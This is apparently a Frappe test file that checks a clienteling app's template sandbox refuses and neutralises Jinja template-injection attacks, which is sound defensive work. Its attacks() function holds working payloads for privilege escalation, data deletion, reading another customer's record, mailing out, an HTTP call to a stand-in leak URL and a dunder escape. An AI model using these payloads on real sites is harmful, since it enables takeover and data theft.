"""Templates render words, never code, on the real site. What a Clienteling Manager who is not a
System Manager, a Sales Manager, an associate and a System Manager can save; and what the planner,
a campaign's job and the WhatsApp sender, all running as Administrator, make of a template that
slipped past the check (saved before the check existed). Each attack is first shown to act when
Frappe's own Jinja renders it, so its failing here is the sandbox's doing, not a typo's."""

import json

import frappe
from frappe.tests.utils import FrappeTestCase
from frappe.utils import getdate, nowdate

from jewel_clienteling.domain import rendering as text
from jewel_clienteling.domain.default_templates import TEMPLATES
from jewel_clienteling.services import campaigns, planner, whatsapp
from jewel_clienteling.services.rendering import Drafter
from jewel_clienteling.testing.whatsapp_server import CloudAPIServer
from jewel_clienteling.tests import fixtures as fx
from jewel_clienteling.tests.test_outreach import occasion
from jewel_clienteling.tests.utils import (
	ASSOCIATE_USER,
	CLIENTELING_MANAGER_USER,
	SALES_MANAGER_USER,
	SYSTEM_MANAGER_USER,
	as_request,
	make_role_users,
	plan_outreach,
	send_at_any_hour,
)

MANAGER = CLIENTELING_MANAGER_USER
WRITERS = (CLIENTELING_MANAGER_USER, SYSTEM_MANAGER_USER)
NOT_WRITERS = (SALES_MANAGER_USER, ASSOCIATE_USER)
LEAK = "leak@example.com"
OTHER_MOBILE = "+919800011122"
TOKEN = "sandbox-token"  # noqa: S105 - the stand-in server's token
# what Frappe's Jinja would do with each attack, and so what must not happen here
ACTS = {"make herself System Manager", "set a value", "delete a document", "send mail", "call out over HTTP"}
REFUSAL_WORDS = {
	"call": "cannot call anything",
	"private": "reaches inside the program",
	"unknown_name": "is not something a message can say",
}


def attacks(other: str, leak_url: str) -> dict[str, str]:
	q = json.dumps
	return {
		"make herself System Manager": "{{ frappe.get_doc('User', "
		+ q(MANAGER)
		+ ").add_roles('System Manager') }}",
		"set a value": "{{ frappe.db.set_value('Customer', " + q(other) + ", 'customer_details', 'x') }}",
		"delete a document": "{{ frappe.delete_doc('Customer', " + q(other) + ", force=1) }}",
		"send mail": "{{ frappe.sendmail(recipients=['" + LEAK + "'], subject='leak', message='x') }}",
		"read another customer": "Dear {{ frappe.db.get_value('Customer', " + q(other) + ", 'mobile_no') }}",
		"call out over HTTP": "{{ frappe.make_get_request(" + q(leak_url) + ") }}",
		"dunder escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
		"Jinja's own globals": "{{ self }}{{ cycler }}{{ joiner }}{{ namespace }}{{ lipsum }}",
	}


class SandboxCase(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		make_role_users()

	def setUp(self):
		frappe.set_user("Administrator")
		self.server = CloudAPIServer(token=TOKEN, phone_number_id="5252").start()
		self.addCleanup(self.server.stop)
		self.other = fx.make_customer(mobile_no=OTHER_MOBILE, customer_details="her own notes")
		if not frappe.db.exists("Email Account", "JC Sandbox Outgoing"):  # so sendmail would queue
			frappe.get_doc(
				{
					"doctype": "Email Account",
					"email_account_name": "JC Sandbox Outgoing",
					"email_id": "sandbox@jc.test",
					"enable_outgoing": 1,
					"default_outgoing": 1,
					"smtp_server": "127.0.0.1",
					"smtp_port": 2525,
					"no_smtp_authentication": 1,
				}
			).insert()
			self.addCleanup(self.remove, "Email Account", "JC Sandbox Outgoing")
		self.attacks = attacks(self.other, f"{self.server.base_url}/leak")

	def tearDown(self):
		frappe.set_user("Administrator")

	def remove(self, doctype: str, name: str) -> None:
		frappe.set_user("Administrator")
		frappe.delete_doc(doctype, name, force=True, ignore_permissions=True)
		frappe.db.commit()  # nosemgrep: what a job committed is taken away the same way

	def retire(self, customer: str) -> None:
		"""Her test outreach leaves the queue, so no later sender picks it up."""
		frappe.db.set_value(
			"Client Outreach", {"customer": customer}, {"status": "Skipped", "skip_reason": "test"}
		)
		frappe.db.commit()  # nosemgrep

	def state(self) -> dict:
		"""Everything an attack would change."""
		return {
			"her System Manager rows": frappe.db.count(
				"Has Role", {"parent": MANAGER, "role": "System Manager"}
			),
			"the other customer": frappe.db.get_value(
				"Customer", self.other, ["name", "customer_details", "mobile_no"]
			),
			"mail to the leak": frappe.db.count("Email Queue Recipient", {"recipient": LEAK}),
			"requests to the leak": len([r for r in self.server.requests if "leak" in r.path]),
		}

	def assert_frappe_would_act(self, label: str) -> None:
		"""Frappe's own Jinja carries the attack out (undone at once): the test is not empty."""
		frappe.db.savepoint("jc_frappe_jinja")
		before = self.state()
		try:
			output = frappe.render_template(self.attacks[label], {})
		except Exception:
			output = ""
		after = self.state()
		frappe.db.rollback(save_point="jc_frappe_jinja")
		if label in ACTS:
			self.assertNotEqual(before, after, f"Frappe's Jinja should act on: {label}")
		elif label == "read another customer":
			self.assertIn(OTHER_MOBILE, output)

	def errors(self, title: str) -> int:
		return frappe.db.count("Error Log", {"method": title})

	def unchecked_template(self, message: str, reason: str, **fields) -> str:
		"""An Outreach Template as one saved before templates were checked, by the manager."""
		doc = frappe.get_doc(
			{
				"doctype": "Outreach Template",
				"template_name": f"JC unchecked {frappe.generate_hash(length=8)}",
				"reason": reason,
				"message": message,
				"owner": MANAGER,
				"enabled": 1,
				**fields,
			}
		)
		doc.name = doc.template_name
		doc.db_insert()
		self.addCleanup(self.remove, "Outreach Template", doc.name)
		return doc.name


class TestRefusedOnSave(SandboxCase):
	def test_each_attack_is_refused_on_save_with_a_clear_message_for_every_writer(self):
		for user in WRITERS:
			for label, payload in self.attacks.items():
				code = _refusal_code(payload)
				with self.subTest(user=user, attack=label):
					before = self.state()
					error = as_request(
						user, "POST", "frappe.client.insert", doc=json.dumps(_template(payload))
					)
					self.assertIsInstance(error, frappe.ValidationError, repr(error))
					self.assertIn(REFUSAL_WORDS[code], " ".join(error.messages))
					parameter = {**_whatsapp_template(), "parameters": [{"source": payload}]}
					error = as_request(user, "POST", "frappe.client.insert", doc=json.dumps(parameter))
					self.assertIsInstance(error, frappe.ValidationError, repr(error))
					self.assertIn("Parameter 1", " ".join(error.messages))
					self.assertEqual(self.state(), before)

	def test_an_existing_template_cannot_be_edited_into_an_attack(self):
		name = frappe.get_doc(_template("Dear {{ first_name }}, thank you!")).insert().name
		for user in WRITERS:
			doc = frappe.get_doc("Outreach Template", name).as_dict()
			doc["message"] = self.attacks["make herself System Manager"]
			error = as_request(user, "POST", "frappe.client.save", doc=json.dumps(doc, default=str))
			self.assertIsInstance(error, frappe.ValidationError, user)
			self.assertEqual(
				frappe.db.get_value("Outreach Template", name, "message"), "Dear {{ first_name }}, thank you!"
			)

	def test_a_sales_manager_and_an_associate_cannot_write_a_template_at_all(self):
		for user in NOT_WRITERS:
			for doc in (_template("Dear {{ first_name }}"), _whatsapp_template()):
				with self.subTest(user=user, doctype=doc["doctype"]):
					error = as_request(user, "POST", "frappe.client.insert", doc=json.dumps(doc))
					self.assertIsInstance(error, frappe.PermissionError, repr(error))

	def test_the_writers_save_words_loops_and_filters(self):
		message = (
			"Dear {{ first_name | title }}, {% for p in pieces %}{{ p }}{% if not loop.last %}, "
			"{% endif %}{% endfor %} {{ items[0] if items else 'your piece' }}"
		)
		for user in WRITERS:
			self.assertIsNone(
				as_request(user, "POST", "frappe.client.insert", doc=json.dumps(_template(message)))
			)
			parameter = {**_whatsapp_template(), "parameters": [{"source": "{{ occasion_type | lower }}"}]}
			self.assertIsNone(as_request(user, "POST", "frappe.client.insert", doc=json.dumps(parameter)))

	def test_every_default_template_is_installed_accepted_and_renders_for_a_real_customer(self):
		customer = fx.make_customer(mobile_no="+919811122233")
		name = frappe.db.get_value("Customer", customer, "customer_name")
		context = {
			**REALISTIC,
			"first_name": name.split()[0],
			"customer_name": name,
			"store_name": fx.company(),
		}
		drafter = Drafter()
		for template in TEMPLATES:
			with self.subTest(template=template["template_name"]):
				stored = frappe.get_doc("Outreach Template", template["template_name"])
				stored.save()  # the check on save accepts it as installed
				words = drafter.draft(stored.name, context)
				self.assertTrue(words.startswith(f"Dear {name.split()[0]}"), words)
				self.assertNotIn("{", words)
		self.assertEqual(drafter.broken, set())


class TestHarmlessWhenRendered(SandboxCase):
	def test_the_daily_planner_renders_no_attack_and_leaves_the_message_to_the_associate(self):
		for label, payload in self.attacks.items():
			with self.subTest(attack=label):
				self.assert_frappe_would_act(label)
				template = self.unchecked_template(
					payload, "Occasion", step="7 days ahead", occasion_type="Other"
				)
				customer = fx.make_customer(mobile_no="+919811100011", jc_whatsapp_opt_in=1)
				occasion(customer, 7, "Other")
				before = self.state()
				frappe.set_user("Administrator")  # as the scheduler's job runs
				today = getdate(nowdate())
				planner.plan_days(today, today, today)
				self.assertEqual(self.state(), before)
				[row] = frappe.get_all(
					"Client Outreach",
					filters={"customer": customer},
					fields=["status", "template", "message"],
				)
				self.assertEqual((row.status, row.template, row.message), ("Due", template, ""))
				self.assertEqual(self.errors(f"Clienteling: template {template} could not be rendered"), 1)
				frappe.db.set_value("Outreach Template", template, "enabled", 0)  # the next one's turn
				self.retire(customer)

	def test_a_campaign_started_by_the_manager_renders_no_attack_when_its_job_runs(self):
		for label, payload in self.attacks.items():
			with self.subTest(attack=label):
				self.assert_frappe_would_act(label)
				template = self.unchecked_template(payload, "Campaign")
				group = _customer_group()
				customer = fx.make_customer(
					mobile_no="+919811100022", jc_whatsapp_opt_in=1, customer_group=group
				)
				campaign = {
					"doctype": "Client Campaign",
					"campaign_name": f"JC sandbox {frappe.generate_hash(length=6)}",
					"send_on": nowdate(),
					"outreach_template": template,
					"customer_group": group,
				}
				self.assertIsNone(
					as_request(MANAGER, "POST", "frappe.client.insert", keep=True, doc=json.dumps(campaign))
				)
				name = frappe.db.get_value("Client Campaign", {"campaign_name": campaign["campaign_name"]})
				self.assertIsNone(
					as_request(MANAGER, "POST", "jewel_clienteling.api.campaigns.start", keep=True, name=name)
				)
				frappe.db.commit()  # nosemgrep: as the button's request does
				before = self.state()
				campaigns.run(name)  # the job, as Administrator
				self.assertEqual(self.state(), before)
				self.assertEqual(frappe.db.get_value("Client Campaign", name, "status"), "Completed")
				message = frappe.db.get_value("Client Outreach", {"customer": customer}, "message")
				self.assertEqual(message, "")
				self.assertEqual(self.errors(f"Clienteling: template {template} could not be rendered"), 1)
				self.retire(customer)

	def test_the_whatsapp_sender_renders_no_attacking_parameter_and_sends_nothing(self):
		send_at_any_hour(self)
		config = frappe.get_single("Clienteling WhatsApp Settings")
		old = {field: config.get(field) for field in ("enabled", "phone_number_id", "graph_url")}
		config.update(
			{
				"enabled": 1,
				"phone_number_id": "5252",
				"graph_url": self.server.base_url,
				"access_token": TOKEN,
			}
		)
		config.save()
		self.addCleanup(_put_back_whatsapp, old)
		step = f"sandbox {frappe.generate_hash(length=6)}"
		template = frappe.get_doc({**_whatsapp_template(step), "parameters": [{"source": "first_name"}]})
		template.insert()
		for payload in self.attacks.values():  # as saved before parameters were checked
			template.append("parameters", {"source": payload}).db_insert()
		self.addCleanup(self.remove, "Clienteling WhatsApp Template", template.name)
		for label in self.attacks:
			self.assert_frappe_would_act(label)
		customer = fx.make_customer(mobile_no="+919811100033", jc_whatsapp_opt_in=1)
		name = plan_outreach(customer, step=step)
		before = self.state()
		whatsapp.drain(max_seconds=10)  # the sender's job, as Administrator
		frappe.db.rollback()
		self.assertEqual(self.state(), before)
		self.assertEqual(self.server.sent_to("+919811100033"), [], "nothing was sent to her")
		row = frappe.db.get_value("Client Outreach", name, ["status", "error_code"], as_dict=True)
		self.assertEqual((row.status, row.error_code), ("Failed", "empty_parameter"))
		for position in range(2, len(self.attacks) + 2):
			title = (
				f"Clienteling: WhatsApp template {template.name} parameter {position} could not be rendered"
			)
			self.assertEqual(self.errors(title), 1, title)

	def test_the_environment_alone_acts_on_nothing_inside_the_site(self):
		"""The second wall: a template rendered with the sandbox without its check, as Administrator."""
		frappe.set_user("Administrator")
		before = self.state()
		for label, payload in self.attacks.items():
			with self.subTest(attack=label):
				try:
					output = text.environment().from_string(payload).render(first_name="Asha")
				except Exception as error:
					output = type(error).__name__
				self.assertNotIn(OTHER_MOBILE, output)
				self.assertNotIn("class", output)
		self.assertEqual(self.state(), before)


REALISTIC = {
	"associate_name": "Meera",
	"preferred_category": "Rings",
	"occasion_type": "Birthday",
	"person_name": "",
	"occasion_date": "12 March",
	"days_ahead": 7,
	"items": ["Polki ring"],
	"care_topic": "polki",
	"festival": "Diwali",
	"festival_date": "8 November",
	"points": 120,
	"expiry_date": "01-01-2027",
	"piece": "Gold chain",
	"pieces": ["Gold chain"],
	"reason_not_bought": "Price",
	"budget": "1,50,000",
}


def _refusal_code(payload: str) -> str:
	try:
		text.check(payload)
	except text.TemplateRefused as refused:
		return refused.code
	raise AssertionError(f"not refused: {payload}")


def _template(message: str) -> dict:
	return {
		"doctype": "Outreach Template",
		"template_name": f"JC sandbox {frappe.generate_hash(length=8)}",
		"reason": "Lapsed",
		"message": message,
	}


def _whatsapp_template(step: str = "") -> dict:
	return {
		"doctype": "Clienteling WhatsApp Template",
		"template_name": f"jc_sandbox_{frappe.generate_hash(length=6)}",
		"language": "en",
		"category": "Marketing",
		"reason": "Occasion",
		"step": step,
	}


def _customer_group() -> str:
	name = f"JC Sandbox {frappe.generate_hash(length=6)}"
	frappe.get_doc(
		{
			"doctype": "Customer Group",
			"customer_group_name": name,
			"parent_customer_group": "All Customer Groups",
		}
	).insert()
	return name


def _put_back_whatsapp(old: dict) -> None:
	for field, value in old.items():
		frappe.db.set_single_value("Clienteling WhatsApp Settings", field, value)
	frappe.db.commit()  # nosemgrep
